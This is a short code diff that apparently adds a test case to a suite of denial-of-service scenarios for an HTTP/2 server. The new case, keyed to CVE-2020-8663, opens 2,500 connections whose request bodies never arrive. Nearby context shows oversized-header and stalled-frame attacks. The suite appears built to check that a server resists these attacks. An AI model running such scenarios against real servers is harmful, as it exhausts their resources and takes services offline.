@@ -529,6 +529,12 @@ def unread_upgrades(line: Line) -> Script:
     yield head + b"".join(b"X-%d: %s\r\n" % (number, b"y" * 8000) for number in range(50)) + b"\r\n" + start()
 
 
+@attack(on=DEMO, connections=2500)
+def busy_streams(line: Line) -> Script:
+    """CVE-2020-8663: more connections than the listener takes, each with a stream whose body does not come."""
+    yield start() + headers(1, line.target.block("POST", "/demo/hello"), end=False)
+
+
 @attack(on=(*HTTP2, *ADMIN), connections=1000)
 def stalled_connections(line: Line) -> Script:
     """CVE-2024-22201: 1,000 connections that end in the middle of a frame, or behind the first SETTINGS frame."""
